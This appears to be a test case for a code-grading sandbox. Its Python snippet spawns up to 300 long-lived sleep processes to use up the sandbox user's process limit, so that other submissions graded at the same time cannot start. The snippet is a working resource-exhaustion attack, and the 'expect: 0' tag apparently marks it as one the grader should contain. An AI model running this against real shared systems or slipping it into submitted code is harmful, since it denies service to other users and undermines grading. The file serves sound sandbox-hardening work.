# attack: use up the processes of the sandbox's user (a fork bomb of sleepers, held for a while), so that the submissions graded at the same time cannot start theirs
# kind: reach
# notebook: 01_mini_lesson
# expect: 0
# %% new
import subprocess, time

held = []
for _ in range(300):
    try:
        held.append(subprocess.Popen(["sleep", "98765.4321"]))
    except OSError:
        break
time.sleep(8)
